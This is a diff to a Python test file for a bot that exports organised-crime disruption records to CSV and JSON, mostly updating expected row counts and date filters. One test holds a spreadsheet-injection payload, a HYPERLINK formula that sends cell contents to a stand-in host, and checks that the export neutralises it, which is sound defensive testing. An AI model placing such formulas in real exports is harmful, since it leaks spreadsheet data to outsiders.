@@ -41,7 +41,7 @@ def test_one_row_per_disruption_with_the_national_columns(bot, tmp_path):
     assert tuple(rows[0]) == export.COLUMNS
     needed = "ocg_ref occurred_on pillar grade description arrests cash_gbp drugs nominal"
     assert set(needed.split()) | {"recorded_by", "status", "moderated_by"} <= set(export.COLUMNS)
-    assert len(rows) == 5
+    assert len(rows) == 10
     first = next(r for r in rows if r["grade"] == "major" and r["ocg_ref"] == "OCG-0001")
     assert first["cash_gbp"] == "12500.00"
     assert first["drugs"] == "1.2kg cocaine"
@@ -73,7 +73,8 @@ def test_nominal_money_and_pounds_sign_survive(bot, tmp_path):
 def test_cells_a_spreadsheet_would_run_are_made_inert(bot, tmp_path):
     hostile = '=HYPERLINK("http://x.example/?"&A1,"click") to steal the sheet'
     reply = bot.handle(
-        f'disrupt smith minor prevent "{hostile.replace(chr(34), chr(39))}" drugs="+44 cannabis"',
+        f'disrupt smith minor prevent "{hostile.replace(chr(34), chr(39))}" '
+        'drugs="+44 cannabis" level=primary',
         Who("console", "nguyen"),
         face="console",
     )
@@ -93,15 +94,15 @@ def test_safe_cell_covers_every_formula_lead():
 
 
 def test_filters_by_status_and_date(bot, tmp_path):
-    assert len(read_csv(run(bot, tmp_path, status="accepted"))) == 3
-    assert len(read_csv(run(bot, tmp_path, status="pending"))) == 2
-    since = read_csv(run(bot, tmp_path, since="19/02/2027"))
-    assert [r["occurred_on"] for r in since] == ["2027-02-19", "2027-02-26"]
+    assert len(read_csv(run(bot, tmp_path, status="accepted"))) == 5
+    assert len(read_csv(run(bot, tmp_path, status="pending"))) == 4
+    since = read_csv(run(bot, tmp_path, since="26/02/2027"))
+    assert [r["occurred_on"] for r in since] == ["2027-02-26", "2027-02-28", "2027-03-01"]
 
 
 def test_json_is_one_array_with_money_as_numbers(bot, tmp_path):
     data = json.loads(run(bot, tmp_path, format="json").read_text(encoding="utf-8"))
-    assert len(data) == 5 and set(data[0]) == set(export.COLUMNS)
+    assert len(data) == 10 and set(data[0]) == set(export.COLUMNS)
     assert max(d["cash_gbp"] for d in data) == 12500.0
     empty = json.loads(run(bot, tmp_path, format="json", since="03/03/2027").read_text())
     assert empty == []
@@ -112,7 +113,7 @@ def test_every_export_is_audited(bot, tmp_path):
     with Session(bot.engine) as s:
         last = s.exec(select(AuditEvent).order_by(AuditEvent.id.desc())).first()
     assert (last.action, last.outcome) == ("export", "ok")
-    assert "status=accepted" in last.text and last.detail.startswith("3 rows")
+    assert "status=accepted" in last.text and last.detail.startswith("5 rows")
 
 
 def test_the_command_line_runs_it(bot, tmp_path, monkeypatch, capsys):
@@ -121,10 +122,10 @@ def test_the_command_line_runs_it(bot, tmp_path, monkeypatch, capsys):
     monkeypatch.setenv("SOCBOT_LOAD_PLUGINS", "help,disruptions")
     out = tmp_path / "national.csv"
     assert cli.main(["export", "disruptions", "--status", "accepted", "--out", str(out)]) == 0
-    assert "wrote 3 disruptions" in capsys.readouterr().err
-    assert len(read_csv(out)) == 3
+    assert "wrote 5 disruptions" in capsys.readouterr().err
+    assert len(read_csv(out)) == 5
     assert cli.main(["export", "disruptions", "--format", "json"]) == 0
-    assert len(json.loads(capsys.readouterr().out)) == 5
+    assert len(json.loads(capsys.readouterr().out)) == 10
     assert cli.main(["export", "disruptions", "--since", "someday"]) == 2
     assert "--since" in capsys.readouterr().err
 
@@ -132,4 +133,4 @@ def test_the_command_line_runs_it(bot, tmp_path, monkeypatch, capsys):
 def test_export_on_every_database(make_bot, any_engine, tmp_path):
     bot = make_bot(any_engine, demo=True)
     rows = read_csv(run(bot, tmp_path, status="accepted"))
-    assert len(rows) == 3 and {r["moderated_by"] for r in rows} == {"moss"}
+    assert len(rows) == 5 and {r["moderated_by"] for r in rows} == {"moss"}
